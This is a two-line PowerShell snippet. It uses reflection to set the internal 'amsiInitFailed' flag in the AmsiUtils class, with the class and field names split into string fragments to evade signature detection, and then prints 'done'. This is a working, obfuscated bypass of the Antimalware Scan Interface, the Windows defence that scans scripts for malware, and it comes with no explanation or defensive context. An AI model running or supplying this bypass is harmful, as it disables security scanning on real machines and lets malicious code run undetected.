[Ref].Assembly.GetType('System.Management.Automation.Am'+'siUt'+'ils').GetField('amsi'+'InitF'+'ailed','NonPublic,Static').SetValue($null,$true)
Write-Host done
